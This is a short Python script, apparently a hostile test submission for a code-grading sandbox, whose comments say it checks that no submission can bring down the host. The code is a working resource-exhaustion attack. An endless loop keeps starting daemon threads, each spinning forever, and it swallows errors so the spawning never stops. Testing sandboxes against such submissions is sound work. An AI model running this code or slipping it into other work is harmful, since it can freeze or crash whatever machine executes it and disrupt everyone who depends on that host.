"""Start threads without end, each with work to do.

Against: no submission stops the host.
"""
# may lose: everything
# stock: would harm the grading host: threads without end

# %% after conv-output-shape
import threading

while True:
    try:
        threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
    except RuntimeError:
        pass
